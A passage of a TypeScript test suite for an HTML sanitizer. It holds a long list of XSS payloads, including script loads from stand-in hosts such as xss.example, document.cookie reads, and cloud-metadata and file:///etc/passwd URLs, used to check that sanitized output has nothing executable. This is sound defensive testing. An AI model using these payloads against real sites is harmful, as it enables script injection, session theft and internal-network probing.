  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="${SVG_DATA}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.example/xss.js"></SCRIPT>`,
  `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.example/xss.js></SCRIPT>'"-->`,
  `<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>`,
  `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`,
  `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
  `<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT =">" SRC="httx://xss.example/xss.js"></SCRIPT>`,
  `<SCRIPT "a='>'" SRC="httx://xss.example/xss.js"></SCRIPT>`,
  '<SCRIPT a=`>` SRC="httx://xss.example/xss.js"></SCRIPT>',
  `<A HREF="javascript:document.location='http://www.example.com/'">XSS</A>`,
  `<a href="jAvAsCrIpT&colon;alert&lpar;1&rpar;">x</a>`,
  `<a href="java&Tab;script:alert(1)">x</a><a href="java&NewLine;script:alert(1)">y</a>`,
  `<a href="javascript&#58alert(1)">x</a><a href="javascript&#x3Aalert(1)">y</a>`,
  `<a href="\u0000javascript:alert(1)">x</a><a href="java\u0000script:alert(1)">y</a>`,
  `<a href="\u000Bjavascript:alert(1)">x</a><a href="\u001Fjavascript:alert(1)">y</a>`,
  `<a href="javas\uFFFEcript:alert(1)">x</a><a href="javas&#xFFFE;cript:alert(1)">y</a><a href="javas&#1;cript:alert(1)">z</a>`,
  `<a href="java\nscript:alert(1)">x</a><a href="javascript\t:alert(1)">y</a>`,
  `<a href="feed:javascript:alert(1)">x</a><a href="view-source:javascript:alert(1)">y</a><a href="jar:https://x.example/a!/b">z</a>`,
  `<a href="file:///etc/passwd">x</a><a href="blob:https://x.example/1">y</a><a href="intent://x#Intent;end">z</a>`,
  `<a href="DATA:text/html,<script>alert(1)</script>">x</a>`,
  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)">`,
  // HTML5
  `<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>`,
  `<input onfocus=write(1) autofocus>`,
  `<input onblur=write(1) autofocus><input autofocus>`,
  `<video poster=javascript:alert(1)//></video>`,
  `<video src=javascript:alert(1)></video><audio src=javascript:alert(1)></audio>`,
  `<body onscroll=alert(1)><br><br><br><input autofocus>`,
  `<video><source onerror="alert(1)">`,
  `<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;" />`,
  `<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>" onload="alert(1)" name="top"></iframe>`,
  `<math><a xlink:href="javascript:alert(1)">click</a></math>`,
  `<math href="javascript:alert(1)">click</math>`,
  `<svg><a xlink:href="javascript:alert(1)"><rect width="1000" height="1000"/></a></svg>`,
  `<svg><script xlink:href=data:,alert(1)></script></svg>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>click</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`,
  `<details open ontoggle=alert(1)>`,
  `<marquee onstart=alert(1)>m</marquee>`,
  `<audio src=x onerror=alert(1)>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:alert(1)">`,
  `<img src="/a.png" srcset="javascript:alert(1) 1x, /b.png 2x">`,
  `<picture><source srcset="javascript:alert(1)"><img src="/a.png"></picture>`,
  `<link rel=import href="data:text/html,<script>alert(1)</script>">`,
  `<base href="//evil.example/"><a href="x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<div draggable="true" ondragstart="alert(1)">d</div>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
  `<x:img src=x onerror=alert(1)>`,
  `<html:script>alert(1)</html:script>`,
  `<a href="https://ok.example/" xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink">x</a>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  `<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>`,
  `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
  `<style><img title="</style><img src=x onerror=alert(1)>"></style>`,
  `<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<listing><img src=x onerror=alert(1)></listing>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=alert(1)>">`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<!--[if IE]><script>alert(1)</script><![endif]-->`,
  `<![if IE]><img src=x onerror=alert(1)><![endif]>`,
  `<a href="javascript:alert(1)`,
  `<img src="x`,
  `<img src=x onerror=alert(1)//`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<a href="https://ok.example/" title='"><script>alert(1)</script>'>x</a><img src="x" alt="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">`,
  `<a href="https://ok.example/" onclick="alert(1)" ONCLICK="alert(2)" oNmOuSeOvEr="alert(3)" on-click="x">x</a>`,
  `<p/onmouseover=alert(1)>p</p><p onmouseover=alert(1)//>q</p><p\tonclick=alert(1)>r</p>`,
  `<img/src="x"/onerror=alert(1)>`,
  `<a href=" &#x6A;avascript:alert(1)">x</a>`,
  `<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">fullwidth</a>`,
  `<span style="position:fixed;inset:0" title="overlay">x</span>`,
  `<br size="&{alert('XSS')}">`,
  `<label for="admin-delete-button" accesskey="s">Click</label><output form="admin" name="action"></output>`,
  `<img name="getElementById" src="/a.png"><span id="cookie"></span><a id="x" name="x" href="/y">y</a>`,
  `<a href="https://ok.example/" target="_blank" rel="opener" ping="https://tracker.example/">x</a>`,
  `<span href="javascript:alert(1)" src="vbscript:x" action="javascript:alert(1)" data="data:text/html,x" icon="javascript:x" urn="javascript:x" usemap="javascript:x">s</span>`,
  `<img src="http://169.254.169.254/latest/meta-data/" longdesc="http://localhost/"><a href="http://[::1]/">l</a>`,
];

// Each URL-bearing attribute we keep, written with each obfuscated scheme.
const URL_SLOTS = [
  ['a', 'href'],
  ['area', 'href'],
  ['img', 'src'],
  ['img', 'lowsrc'],
  ['img', 'dynsrc'],
  ['img', 'longdesc'],
  ['video', 'poster'],
  ['video', 'src'],
  ['audio', 'src'],
  ['source', 'src'],
  ['track', 'src'],
  ['blockquote', 'cite'],
  ['q', 'cite'],
  ['del', 'cite'],
  ['ins', 'cite'],
  ['table', 'background'],
  ['td', 'background'],
  ['span', 'datasrc'],
  ['span', 'data'],
  ['span', 'action'],
  ['span', 'icon'],
  ['span', 'vrml'],
  ['span', 'href'],
  ['span', 'src'],
  ['span', 'ping'],
  ['span', 'usemap'],
];
const SCHEME_PAYLOADS = [
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  `jav&#x09;ascript:${JS}`,
  `jav&#x0A;ascript:${JS}`,
  `&#106;avascript:${JS}`,
  `javascript&colon;${JS}`,
  ` &#14; javascript:${JS}`,
  `javas&#xFFFE;cript:${JS}`,
  `java\u0000script:${JS}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${JS}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  SVG_DATA,
  `http://127.0.0.1/`,
  `http://[::ffff:169.254.169.254]/`,
];
const SLOT_VECTORS = URL_SLOTS.flatMap(([tag, attribute]) =>
  SCHEME_PAYLOADS.map((payload) => `<${tag} ${attribute}="${payload.replace(/"/g, '&quot;')}">x</${tag}>`),
);
// Event handlers (and the attributes that make them fire without a click) on every element we keep.
const HANDLER_VECTORS = [...OUTPUT_TAGS].map(
  (tag) =>
    `<${tag} onclick="${JS}" OnMouseOver=${JS} ONFOCUS='${JS}' onerror=${JS} autofocus tabindex=0 style="x:expression(${JS})">t</${tag}>`,
);

// Seeded random documents stitched from hostile fragments: tags in any case, handlers, URL attributes with obfuscated values,
// unbalanced quotes, comment and CDATA openers, raw-text and foreign elements, stray end tags.
function randomDocuments(count: number): string[] {
  let seed = 20_240_501;
  const next = () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const pick = <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!;
  const tags = [...OUTPUT_TAGS, 'script', 'style', 'svg', 'math', 'noscript', 'iframe', 'textarea', 'title', 'xmp', 'select', 'form'];
  tags.push('object', 'template', 'plaintext', 'noembed', 'x:script', 'base', 'meta', 'link', 'command', 'image', 'input', 'button');
  const attributes = ['href', 'src', 'onerror', 'onload', 'style', 'srcdoc', 'formaction', 'poster', 'cite', 'background', 'ping', 'id'];
  attributes.push('name', 'class', 'xlink:href', 'action', 'data', 'title', 'alt', 'open', 'for', 'form', 'usemap', 'srcset', 'target');
  const values = [...SCHEME_PAYLOADS, 'x', '"><img src=x onerror=alert(1)>', '</noscript><img src=x onerror=alert(1)>', '//[::1]/', ''];
  values.push('--><script>alert(1)</script>', '`javascript:alert(1)`', "'", 'https://ok.example/', 'data:image/png;base64,AAAA');
  const fragment = () => {
    const r = next();
    if (r < 0.45) {
      const tag = pick(tags);
      let text = `<${next() < 0.3 ? tag.toUpperCase() : tag}`;
      for (let n = Math.floor(next() * 4); n > 0; n--) {
        const quote = pick(['"', "'", '']);
        text += `${pick([' ', '/', '\t', '\n'])}${pick(attributes)}=${quote}${pick(values)}${quote}`;
      }
      return text + pick(['>', '/>', '', ' >']);
    }
    if (r < 0.65) return `</${pick(tags)}>`;
    if (r < 0.8) return pick(['<!--', '-->', '<![CDATA[', ']]>', '<!', '<?', '?>', '<', '>', '&', '&lt;', '&#', '"', "'", '&#xFFFE;']);
    return pick(['alert(1)', 'text', ' ', 'javascript:alert(1)', '\u0000', '\uFFFE']);
  };
  return Array.from({ length: count }, () => Array.from({ length: 1 + Math.floor(next() * 12) }, fragment).join(''));
}
const RANDOM_DOCUMENTS = randomDocuments(3000);

describe(`sanitizeContent: ${HOSTILE.length + SLOT_VECTORS.length + HANDLER_VECTORS.length} hostile vectors and ${RANDOM_DOCUMENTS.length} random hostile documents`, () => {
  const optionSets: [string, Parameters<typeof sanitizeContent>[1]][] = [
    ['with a base', { baseUrl: BASE }],
    ['without a base', {}],
    ['with the video allowlist', { baseUrl: BASE, iframeHosts: [...defaultVideoIframeHosts] }],
  ];

  function survivors(vectors: readonly string[]): string[] {
    const left: string[] = [];
    for (const html of vectors) {
      for (const [label, options] of optionSets) {
        const out = sanitizeContent(html, options);
        for (const vector of scriptVectors(out, options?.iframeHosts)) left.push(`${label}: ${html} -> ${out}: ${vector}`);
        expectWellFormed(out);
      }
    }
    return left;
  }

  it(`${HOSTILE.length} known vectors leave nothing executable`, () => {
    expect(survivors(HOSTILE)).toEqual([]);
  });

  it(`${SLOT_VECTORS.length} obfuscated scheme and internal-host URLs in every URL-bearing attribute are refused`, () => {
    expect(survivors(SLOT_VECTORS)).toEqual([]);
  });

  it(`${HANDLER_VECTORS.length} elements keep no event handler`, () => {
    expect(survivors(HANDLER_VECTORS)).toEqual([]);
  });

  it(`${RANDOM_DOCUMENTS.length} random documents of hostile fragments leave nothing executable`, () => {
    expect(survivors(RANDOM_DOCUMENTS)).toEqual([]);
  });

  it('the checker finds what it looks for', () => {
    expect(scriptVectors('<img src="javascript:alert(1)" onerror="x"><iframe srcdoc="x"></iframe><!-- c -->')).toEqual([
      'img src: script URL (javascript:alert(1))',
      'img onerror',
      '<iframe>',
      '<iframe src="undefined">',
      'iframe srcdoc',
      'comment  c ',
    ]);
    expect(
      scriptVectors('<a href="java\tscript:x">a</a><video poster="http://[::1]/"></video><img src="data:image/svg+xml;base64,AA==">'),
    ).toEqual([
      'a href: script URL (java\tscript:x)',
      'video poster: internal host [::1] (http://[::1]/)',
      'img src: data: URL (data:image/svg+xml;base64,AA==)',
    ]);
  });
});

describe('htmlToText', () => {
  it.each([
    ['<p>Hello</p><p>world</p>', 'Hello world'],
    ['<b>in</b>line<i>s</i>', 'inlines'],
    ['line<br>break<hr>rule', 'line break rule'],
    ['<ul><li>one</li><li>two</li></ul><table><tr><td>a</td><td>b</td></tr></table>', 'one two a b'],
    ['<p>before</p><script>alert("x")</script><style>p { color: red }</style><p>after</p>', 'before after'],
    ['<noscript>enable js</noscript><template>tpl</template><svg><text>svg</text></svg>shown', 'shown'],
    ['<!-- comment -->text', 'text'],
    ['AT&amp;T &amp; friends', 'AT&T & friends'],
    ['Fish &amp;amp; chips', 'Fish &amp; chips'],
    ['&amp;lt;b&amp;gt;', '&lt;b&gt;'],
    ['&lt;b&gt;not a tag&lt;/b&gt;', '<b>not a tag</b>'],
    ['Caf&eacute; &#233; &#xE9; &#XE9;', 'Café é é é'],
    ['Regulaci&oacute;n en Espa&ntilde;a: &iquest;qu&eacute; cambia?', 'Regulación en España: ¿qué cambia?'],
    ['Regulación en España', 'Regulación en España'],
    ['<p>比特币&nbsp;价格上涨</p><p>ビットコイン</p>', '比特币 价格上涨 ビットコイン'],
    ['&#x1F680; launch &#128640;', '🚀 launch 🚀'],
    ['&ldquo;Quoted&rdquo; &mdash; &hellip;', '“Quoted” — …'],
    ['a < b && c > d', 'a < b && c > d'],
    ['AT&T', 'AT&T'],
    ['  spaced \n\t out  &nbsp; ', 'spaced out'],
    ['<p title="attr text">body</p><img alt="alt text">', 'body'],
    ['', ''],
    ['a\u0001b \u00A0 c\uFFFE', 'ab c'],
    ['Bitcoin&#8217;s rally', 'Bitcoin’s rally'],
    ['<center>a</center><center>b</center><details><summary>c</summary>d</details>', 'a b c d'],
    ['<select><option>x</option></select><textarea>t</textarea>y', 'y'],
  ])('%s -> %s', (html, text) => expect(htmlToText(html)).toBe(text));

  it.each([
    ['<h2>Heading</h2>\n<p>One  two.</p> <p>Three <b>four</b></p>', 'Heading\nOne two.\nThree four'],
    ['<ul><li>a</li><li>b</li></ul>tail<br>end', 'a\nb\ntail\nend'],
    ['<p>line\nwrapped in the source</p>', 'line wrapped in the source'],
    ['plain text', 'plain text'],
  ])('with paragraphs: %s -> %s', (html, text) => expect(htmlToText(html, true)).toBe(JSON.parse(JSON.stringify(text))));
});

describe('truncateText', () => {
  it.each([
    ['short', 10, 'short'],
    ['exactly ten', 11, 'exactly ten'],
    ['The quick brown fox jumps', 20, 'The quick brown fox…'],
    ['Bitcoin price rallies sharply today', 25, 'Bitcoin price rallies…'],
    ['Supercalifragilistic expialidocious', 15, 'Supercalifragi…'],
    ['Regulación en España hoy', 12, 'Regulación…'],
    ['比特币价格今天大幅上涨', 6, '比特币价格…'],
    ['ab🚀cd', 4, 'ab🚀…'],
    ['ab🚀cd', 3, 'ab…'],
    ['🚀🚀🚀🚀', 3, '🚀🚀…'],
    ['Cafe\u0301 con leche', 5, 'Caf…'],
    ['👨‍👩‍👧 family', 3, '…'],
    ['text', 1, '…'],
    ['text', 0, ''],
  ])('%s (%i) -> %s', (text, max, expected) => {
    const result = truncateText(text, max);
    expect(result).toBe(expected);
    expect([...result].length).toBeLessThanOrEqual(max);
  });

  it('never exceeds max code points or splits a surrogate pair at any cut point', () => {
    const text = 'Ñandú 🚀 cripto 比特币 😀😀 fin';
    for (let max = 0; max <= [...text].length + 1; max++) {
      const result = truncateText(text, max);
      expect([...result].length).toBeLessThanOrEqual(max);
      expect(result).not.toMatch(LONE_SURROGATE);
      if (result !== text) expect(result.endsWith('…') || result === '').toBe(true);
    }
  });
});
